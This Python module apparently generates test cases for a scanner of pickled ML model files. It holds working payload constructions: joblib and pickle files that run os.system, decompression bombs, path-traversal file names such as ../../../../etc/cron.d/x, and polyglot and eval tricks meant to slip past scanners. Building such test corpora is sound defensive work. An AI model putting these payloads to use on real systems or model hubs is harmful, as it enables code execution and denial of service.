# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: E501  (an entry of a table reads best on its line)
"""Containers: joblib's interleaved arrays, compression, polyglots and other formats."""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import pickle
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np

from . import kit
from .kit import (
    Entry,
    args,
    call,
    inside,
    joblib_dumped,
    many,
    mapping,
    name,
    new,
    package,
    stream,
    system,
    text,
    value,
)
from .numpy_lies import OBJECT, dtype

__all__ = ["entries"]

_WRAPPER = ("joblib.numpy_pickle", "NumpyArrayWrapper")
_BOMB_BYTES = 3 << 30
_BLOCK = bytes(16 << 20)


def _wrapped(data: bytes, **changes: bytes) -> bytes:
    """A joblib array of two floats, fields replaced, with `data` behind it as joblib lays it out."""
    fields = {
        "subclass": name("numpy", "ndarray"),
        "shape": args(2),
        "order": text("C"),
        "dtype": dtype(),
        "allow_mmap": pickle.NEWTRUE,
        "numpy_array_alignment_bytes": value(16),
    } | changes
    kept = {key: item for key, item in fields.items() if item}
    return new(name(*_WRAPPER)) + mapping(kept) + pickle.BUILD + data


_PADDED = b"\x01\xff" + struct.pack("<dd", 1.0, 2.0)


def _joblib() -> list[Entry]:
    def one(
        stem: str, technique: str, opcodes: bytes, effect: kit.Effect = "none", rule: str = "DP44"
    ) -> Entry:
        return Entry(f"joblib-{stem}", technique, lambda m: inside(opcodes), rule, effect, loader="joblib")

    def nested(m: Path) -> bytes:
        """An array of objects is a pickle of its own, which joblib up to 1.4 read without any restriction."""
        return joblib_dumped(
            package(feature_names=np.array(["a", kit.Call(__import__("os").system, kit.shell(m))], object))
        )

    def nested_not_an_array(m: Path) -> bytes:
        inner = stream(system(m))
        return inside(_wrapped(inner, dtype=OBJECT))

    def nested_twice(m: Path) -> bytes:
        inner = kit.proto(4) + _wrapped(stream(system(m)), dtype=OBJECT) + pickle.STOP
        return inside(_wrapped(inner, dtype=OBJECT))

    def evil_subclass(m: Path) -> bytes:
        return inside(_wrapped(_PADDED, subclass=name("numpy", "matrix")))

    def class_that_runs(m: Path) -> bytes:
        """`subclass` is called by the reader: __array_prepare__ and _reconstruct of whatever stands there."""
        return inside(_wrapped(_PADDED, subclass=name("os", "system")))

    def mapped(m: Path) -> bytes:
        return inside(_wrapped(_PADDED, subclass=name("numpy", "memmap")) + new(name("numpy", "memmap")))

    def old_wrapper(m: Path) -> bytes:
        """joblib before 0.10 opens the file that the wrapper names, relative to the model."""
        fields = {
            "filename": text("../../etc/hostname"),
            "subclass": name("numpy", "ndarray"),
            "allow_mmap": pickle.NEWTRUE,
        }
        return inside(new(name("joblib.numpy_pickle", "NDArrayWrapper")) + mapping(fields) + pickle.BUILD)

    def old_compressed_wrapper(m: Path) -> bytes:
        fields = {"filename": text("/etc/hostname"), "init_args": value(()), "state": value(())}
        return inside(new(name("joblib.numpy_pickle", "ZNDArrayWrapper")) + mapping(fields) + pickle.BUILD)

    def cut(m: Path) -> bytes:
        return joblib_dumped(package(weights=np.arange(1000.0)))[:-3000]

    def hidden_in_padding(m: Path) -> bytes:
        """Opcodes where joblib pads: a reader without arrays takes them for the stream."""
        hidden = system(m) + pickle.POP
        return inside(_wrapped(bytes([16]) + hidden[:16].ljust(16, b"\xff") + _PADDED[2:]))

    def opcodes_as_array(m: Path) -> bytes:
        """The bytes of an array are a pickle: a scanner that walks opcodes loses its place or sees what is not there."""
        payload = stream(system(m))
        data = payload + b"." * (-len(payload) % 8)
        return joblib_dumped(
            package(
                weights=np.frombuffer(data, "<f8").copy(),
                after=kit.Call(__import__("os").system, kit.shell(m)),
            )
        )

    return [
        Entry("joblib-nested-call", "a call inside an array of objects", nested, "DP42", "runs", loader="joblib"),
        Entry("joblib-nested-other", "the nested pickle is no array", nested_not_an_array, "DP4", "runs",
              loader="joblib"),
        Entry("joblib-nested-twice", "a wrapper inside the nested pickle", nested_twice, "DP4", "runs",
              loader="joblib"),
        Entry("joblib-subclass", "the wrapper makes a subclass", evil_subclass, "DP4", "none", loader="joblib"),
        Entry("joblib-subclass-call", "the wrapper's subclass is os.system", class_that_runs, "DP4", "none",
              loader="joblib"),
        Entry("joblib-mapped", "a mapped file is created beside the wrapper", mapped, "DP4", "none", loader="joblib"),
        Entry("joblib-old", "the wrapper of old joblib opens any file", old_wrapper, "DP443", "none",
              loader="joblib"),
        Entry("joblib-old-compressed", "the compressed wrapper of old joblib opens any file", old_compressed_wrapper,
              "DP443", "none", loader="joblib"),
        Entry("joblib-cut", "the file ends within an array", cut, "DP4", "none", loader="joblib"),
        Entry("joblib-padding", "opcodes where the padding belongs", hidden_in_padding, "DP4", "none",
              loader="joblib"),
        Entry("joblib-opcodes-in-array", "an array of opcodes, and the payload behind it", opcodes_as_array, "DP42",
              "runs", loader="joblib"),
        one("shape-huge", "a shape of 2**40 items", _wrapped(_PADDED, shape=args(1 << 40)), "exhausts"),
        one("shape-negative", "a negative shape", _wrapped(_PADDED, shape=args(-1))),
        one("shape-wraps", "a shape that wraps around", _wrapped(_PADDED, shape=args(1 << 32, 1 << 32))),
        one("shape-short", "fewer items than bytes", _wrapped(_PADDED, shape=args(1)), rule="DP4"),
        one("order", "an order that is none", _wrapped(_PADDED, order=text("Z"))),
        one("alignment", "an alignment of 2**30", _wrapped(_PADDED, numpy_array_alignment_bytes=value(1 << 30))),
        one("alignment-zero", "an alignment of zero, by which the reader divides",
            _wrapped(_PADDED, numpy_array_alignment_bytes=value(0))),
        one("no-alignment", "without the field, yet padded", _wrapped(_PADDED, numpy_array_alignment_bytes=b""),
            "lies", "DP4"),
        one("padding-zero", "a padding of zero bytes", _wrapped(b"\x00" + _PADDED[2:]), "lies"),
        one("padding-long", "a padding longer than the alignment", _wrapped(b"\xf0" + b"\xff" * 240 + _PADDED[2:]),
            "lies"),
        one("padding-text", "a padding of something else", _wrapped(b"\x04evil" + _PADDED[2:]), "lies"),
        one("extra-field", "a field that joblib does not know", _wrapped(_PADDED, filename=text("/etc/hostname"))),
        one("missing-field", "a field is missing", _wrapped(_PADDED, order=b"")),
        one("dtype-object-field", "a dtype with an object inside", _wrapped(_PADDED, dtype=dtype(
            "V16", 3, "|", None, args("a"), pickle.EMPTY_DICT + text("a") + many(OBJECT, value(0)) + pickle.SETITEM,
            16, 1, 16)), "crashes"),
        one("mmap-flag", "a flag that is no boolean", _wrapped(_PADDED, allow_mmap=text("yes"))),
        one("unused", "a wrapper that never gets its bytes", new(name(*_WRAPPER))),
        one("called", "the wrapper is called", call(name(*_WRAPPER), args()), rule="DP42"),
        one("held", "the wrapper is kept as data", name(*_WRAPPER), rule="DP42"),
        one("twice", "a wrapper is used again through the memo",
            new(name(*_WRAPPER)) + pickle.MEMOIZE + mapping({"subclass": name("numpy", "ndarray")}) + pickle.BUILD
            + pickle.BINGET + b"\x00" + pickle.TUPLE2, rule="DP4"),
    ]  # fmt: skip


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    return bytes(lz4.frame.compress(data))


def _frame_of_zeros() -> bytes:
    return kit.proto(4) + pickle.BINBYTES8 + struct.pack("<Q", _BOMB_BYTES)


@functools.cache
def _bomb(codec: str) -> bytes:
    """A few megabytes or less that expand to gibibytes, as one bytes object of zeros."""
    packers: dict[str, Any] = {
        "zlib": lambda: zlib.compressobj(9),
        "gzip": lambda: zlib.compressobj(9, zlib.DEFLATED, 31),
        "bz2": lambda: bz2.BZ2Compressor(9),
        "xz": lambda: lzma.LZMACompressor(lzma.FORMAT_XZ, preset=0),
        "lzma": lambda: lzma.LZMACompressor(lzma.FORMAT_ALONE, preset=0),
    }
    if codec == "lz4":
        import lz4.frame

        return bytes(lz4.frame.compress(_frame_of_zeros() + _BLOCK * 24))
    packer = packers[codec]()
    size = (
        24 if codec in ("xz", "lzma") else 12
    )  # of 16 MiB each: enough to be over every bound, quick to build
    return b"".join(
        [packer.compress(_frame_of_zeros()), *(packer.compress(_BLOCK) for _ in range(size)), packer.flush()]
    )


def _slow_bomb() -> bytes:
    """Just below the allowed ratio, so that as much as possible is expanded before it is refused."""
    rng = np.random.default_rng(0)
    packer = zlib.compressobj(1)
    block = rng.integers(0, 256, 60_000, dtype=np.uint8).tobytes() + bytes(15 << 20)
    parts = [packer.compress(_frame_of_zeros())] + [packer.compress(block) for _ in range(30)]
    return b"".join([*parts, packer.flush()])


def _compressed() -> list[Entry]:
    payload = lambda m: stream(system(m))  # noqa: E731
    packers: dict[str, Any] = {
        "zlib": zlib.compress,
        "gzip": gzip.compress,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
        "lz4": _lz4,
    }
    found = [
        Entry(f"pack-{codec}", f"the payload inside {codec}", lambda m, p=pack: p(payload(m)), "DP42", "runs",
              loader="joblib")
        for codec, pack in packers.items() if codec != "lz4"
    ]  # fmt: skip
    found += [
        Entry("pack-lz4", "the payload inside lz4", lambda m: _lz4(payload(m)), "DP4", "runs", loader="joblib"),
        *(
            Entry(f"bomb-{codec}", f"a {codec} bomb", lambda m, c=codec: _bomb(c), "DP404", "exhausts", loader="joblib")
            for codec in packers
        ),
        Entry("bomb-slow", "a zlib bomb just below the ratio that gives bombs away", lambda m: _slow_bomb(), "DP4",
              "exhausts", loader="joblib"),
        Entry("bomb-window", "an lzma stream that asks for a window of a gibibyte", lambda m: _window(payload(m)),
              "DP4", "runs", loader="joblib"),
        Entry("pack-twice", "gzip inside gzip", lambda m: gzip.compress(gzip.compress(payload(m))), "DP407", "none",
              loader="joblib"),
        Entry("pack-mixed", "zlib inside xz", lambda m: lzma.compress(zlib.compress(payload(m))), "DP407", "none",
              loader="joblib"),
        Entry("pack-members", "two members of gzip: some readers join them, some stop at the first",
              lambda m: gzip.compress(kit.dumped(package())) + gzip.compress(payload(m)), "DP403", "exhausts",
              loader="joblib"),
        Entry("pack-split", "one pickle split over two members", lambda m: gzip.compress(payload(m)[:9])
              + gzip.compress(payload(m)[9:]), "DP4", "exhausts", loader="joblib"),
        Entry("pack-streams", "two streams of xz", lambda m: lzma.compress(payload(m)[:9])
              + lzma.compress(payload(m)[9:]), "DP4", "runs", loader="joblib"),
        Entry("pack-bz2-streams", "two streams of bz2", lambda m: bz2.compress(payload(m)[:9])
              + bz2.compress(payload(m)[9:]), "DP4", "runs", loader="joblib"),
        Entry("pack-trailing", "bytes behind the compressed data",
              lambda m: zlib.compress(kit.dumped(package())) + b"evil", "DP403", "exhausts", loader="joblib"),
        Entry("pack-cut", "compressed data cut off behind the payload",
              lambda m: gzip.compress(payload(m) + bytes(5000))[:-6], "DP4", "runs", loader="joblib"),
        Entry("pack-checksum", "compressed data with a wrong checksum",
              lambda m: zlib.compress(payload(m))[:-4] + b"\0\0\0\0", "DP4", "none", loader="joblib"),
        Entry("pack-empty", "compressed nothing", lambda m: zlib.compress(b""), "DP401", "none", loader="joblib"),
        Entry("pack-dictionary", "zlib with a preset dictionary", lambda m: b"\x78\xbb" + bytes(20), "DP4", "none",
              loader="joblib"),
        Entry("pack-gzip-name", "gzip with a path in its header", lambda m: _named_gzip(payload(m)), "DP42", "runs",
              loader="joblib"),
    ]  # fmt: skip
    return found


def _window(data: bytes) -> bytes:
    packed = bytearray(lzma.compress(data, lzma.FORMAT_ALONE))
    packed[1:5] = struct.pack("<I", 1 << 30)
    return bytes(packed)


def _named_gzip(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile("../../../../etc/cron.d/x", "wb", fileobj=buffer) as file:
        file.write(data)
    return buffer.getvalue()


def _zip(data: bytes, member: str = "data.pkl", **options: Any) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", **options) as archive:
        archive.writestr(member, data)
    return buffer.getvalue()


def _npy(data: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def _polyglots() -> list[Entry]:
    payload = lambda m: stream(system(m))  # noqa: E731

    def torch_legacy(m: Path) -> bytes:
        magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
        return magic + kit.proto(2) + value(1001) + b"." + payload(m)

    def eval_for_magic(m: Path) -> bytes:
        """The magic number of PyTorch is computed by eval, so that a scanner takes the file for something else."""
        return stream(call(name("builtins", "eval"), args(f"({kit.source(m)}, 0x1950A86A20F9469CFC6C)[1]")))

    def flagged_zip(m: Path) -> bytes:
        data = bytearray(_zip(payload(m)))
        data[6] |= 1
        return bytes(data)

    def comment(m: Path) -> bytes:
        """A pickle first, a zip archive behind it: which of the two a reader sees depends on where it looks."""
        return payload(m) + _zip(kit.dumped(package()))

    def pickle_in_script(m: Path) -> bytes:
        return b"#!/usr/bin/env python\n" + payload(m)

    def one(stem: str, technique: str, build: kit.Builder, rule: str = "DP4", effect: kit.Effect = "none",
            advisory: str | None = None) -> Entry:  # fmt: skip
        return Entry(f"format-{stem}", technique, build, rule, effect, advisory)

    return [
        one("zip", "a pickle inside a zip archive", lambda m: _zip(payload(m)), "DP402"),
        one("zip-torch", "a PyTorch checkpoint", lambda m: _zip(payload(m), "archive/data.pkl"), "DP402"),
        one("zip-name", "another suffix inside the archive", lambda m: _zip(payload(m), "data.txt"), "DP402",
            advisory="picklescan GHSA-769v-p64c-89pr"),
        one("zip-flag", "a flag bit that some zip readers refuse", flagged_zip, "DP402",
            advisory="picklescan GHSA-w8jq-xcqf-f792"),
        one("zip-behind", "a zip archive behind a pickle", comment, "DP4", "runs"),
        one("zip-before", "a pickle behind a zip archive", lambda m: _zip(b"x") + payload(m), "DP402"),
        one("npy", "an .npy file of objects", lambda m: _npy(payload(m)), "DP402"),
        one("npz", "an .npz file of objects", lambda m: _zip(_npy(payload(m)), "a.npy"), "DP402"),
        one("skops", "a skops file", lambda m: _zip(b"{}", "schema.json"), "DP402"),
        one("torch-legacy", "a PyTorch checkpoint of the old format", torch_legacy, "DP402"),
        one("torch-magic", "PyTorch's magic number, computed by eval", eval_for_magic, "DP42", "runs",
            "picklescan GHSA-jgw4-cr84-mqxg"),
        one("tar", "a tar archive", lambda m: bytes(257) + b"ustar" + bytes(300)),
        one("7z", "a 7z archive", lambda m: b"7z\xbc\xaf\x27\x1c" + bytes(40), "DP402"),
        one("hdf5", "a Keras file", lambda m: b"\x89HDF\r\n\x1a\n" + bytes(40), "DP402"),
        one("onnx", "an ONNX model", lambda m: b"\x08\x08\x12\x07depickle", "DP4"),
        one("json", "JSON", lambda m: b'{"__reduce__": "os.system"}', "DP4"),
        one("html", "a page", lambda m: b"<html><script>alert(1)</script>", "DP4"),
        one("script", "a pickle behind a script", pickle_in_script, "DP4"),
        one("mark", "a pickle behind a byte order mark", lambda m: b"\xef\xbb\xbf" + payload(m), "DP4"),
        one("newline", "a pickle behind a newline", lambda m: b"\n" + payload(m), "DP4"),
        one("zstd", "zstandard data", lambda m: b"\x28\xb5\x2f\xfd" + bytes(30), "DP402"),
        one("joblib-0.9", "a compressed joblib file of before 0.10",
            lambda m: b"ZF" + hex(len(payload(m))).encode().ljust(19) + zlib.compress(payload(m)), "DP402"),
        one("text-pickle", "the payload in protocol 0", lambda m: b"cos\nsystem\n(V" + kit.shell(m).encode() + b"\ntR.",
            "DP42", "runs"),
    ]  # fmt: skip


def entries() -> list[Entry]:
    """Every entry of this class."""
    return [*_joblib(), *_compressed(), *_polyglots()]
